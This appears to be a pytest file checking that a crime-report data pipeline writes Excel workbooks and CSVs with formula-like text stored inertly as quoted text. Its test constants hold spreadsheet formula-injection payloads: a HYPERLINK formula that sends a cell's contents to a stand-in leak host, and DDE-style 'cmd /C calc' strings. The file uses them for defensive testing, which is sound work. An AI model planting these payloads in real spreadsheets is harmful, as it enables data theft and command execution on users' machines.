"""Workbooks and CSVs the project writes are inert (issue 20, point 4): formula text typed by a clerk comes
back, in every workbook the project writes, as the same text in a text cell, never as a live formula."""
from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from assets import steps
from assets.ingest.template import build_template
from pipelines.defs.metadata import csv_file
from pipelines.cli import main
from schemas import DATASETS

LEAK = '=HYPERLINK("http://example.invalid/leak?"&A1,"klik")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULAS = [LEAK, PLUS, AT, MINUS]


def formula_cells(path: Path) -> list[tuple[str, str, str]]:
    """(sheet, cell, value) of every cell of the written workbook that is a formula, or text starting like
    one that is not a quoted text cell."""
    book = openpyxl.load_workbook(path)
    return [(ws.title, cell.coordinate, cell.value) for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"
                                         and not (cell.data_type == "s" and cell.quotePrefix))]


def texts(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str)]


@pytest.fixture(scope="module")
def synced(tmp_path_factory) -> Path:
    """A police file whose cells hold formula text: as a village (unknown: rejected, and in the steward's
    queue), a crime type (an `=` formula's text: rejected as a formula not computed) and a date (rejected),
    synced into a small warehouse."""
    from tests.conftest import write_reference_lists
    root = tmp_path_factory.mktemp("inert")
    inbox = root / "inbox"
    write_reference_lists(inbox / "reference")
    (inbox / "polda").mkdir()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "2023"
    ws.append(["No", "Nomor LP", "Tgl Lapor", "Jenis Kejahatan", "Desa/Kel TKP", "Kecamatan", "Polsek"])
    rows = [("LP/B/1/I/2023/SPKT/POLRES BANGKA", dt.date(2023, 1, 5), "Curat", PLUS, "Sungai Jaya"),
            ("LP/B/2/I/2023/SPKT/POLRES BANGKA", AT, "Curat", "Air Duren", "Sungai Jaya"),
            ("LP/B/3/I/2023/SPKT/POLRES BANGKA", dt.date(2023, 1, 7), LEAK, "Air Duren", "Sungai Jaya"),
            ("LP/B/4/I/2023/SPKT/POLRES BANGKA", MINUS, "Curat", "Air Duren", "Sungai Jaya")]
    for i, (lp, day, kind, village, district) in enumerate(rows, start=1):
        ws.append([i, lp, day, kind, village, district, "Polsek Sungai Jaya"])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if cell.data_type == "f":               # typed as text by the clerk, saved as text
                cell.data_type = "s"
    wb.save(inbox / "polda" / "lp_2023.xlsx")
    paths = steps.Paths(inbox, root / "warehouse")
    steps.refresh_gazetteer(paths)
    steps.ingest_source(paths, "polda")
    steps.harmonise(paths)
    steps.agency_reports(paths)
    return root / "warehouse"


def test_the_agency_report_shows_formula_text_as_text(synced):
    [report] = (synced / "reports" / "polda").glob("*.xlsx")
    assert formula_cells(report) == []
    shown = texts(report)
    assert LEAK in shown and AT in shown and MINUS in shown       # the cells as typed, in the Errors sheet
    book = openpyxl.load_workbook(report)
    leak = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == LEAK]
    assert leak and all(c.data_type == "s" and c.quotePrefix for c in leak)


def test_the_review_workbook_shows_formula_text_as_text(synced, tmp_path):
    queue = tmp_path / "review.xlsx"
    assert main(["review", "--warehouse", str(synced), "export", "--out", str(queue)]) == 0
    assert formula_cells(queue) == []
    book = openpyxl.load_workbook(queue)
    written = [row[1] for row in book["review"].iter_rows(min_row=2)]
    assert PLUS in [c.value for c in written]
    assert all(c.data_type == "s" and c.quotePrefix for c in written if c.value == PLUS)


def test_a_template_lists_a_formula_like_village_name_as_text(tmp_path):
    villages = pd.DataFrame({"name": [LEAK, "Air Duren"], "district": ["Mendo", "Mendo"],
                             "regency": ["Bangka", "Bangka"], "code": ["19.01.01.2001", "19.01.01.2002"]})
    out = tmp_path / "template.xlsx"
    build_template(DATASETS["crime_report"], villages).save(out)
    assert formula_cells(out) == []
    assert any(LEAK in text for text in texts(out))


def test_csv_details_and_the_match_command_write_formula_text_quoted(tmp_path, reference_dir):
    details = tmp_path / "details.csv"
    csv_file(pd.DataFrame({"file": ["a.xlsx"], "value": [LEAK], "count": [3]}), details)
    assert list(csv.DictReader(details.open())) == [{"file": "a.xlsx", "value": "'" + LEAK, "count": "3"}]
    places = tmp_path / "places.csv"
    pd.DataFrame({"village": [PLUS, "Air Duren"], "district": ["Mendo", "Mendo"]}).to_csv(places, index=False)
    out = tmp_path / "matched.csv"
    assert main(["match", str(places), "--out", str(out), "--reference", str(reference_dir)]) == 0
    matched = list(csv.DictReader(out.open()))
    assert [row["village"] for row in matched] == ["'" + PLUS, "Air Duren"]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in matched for value in row.values())
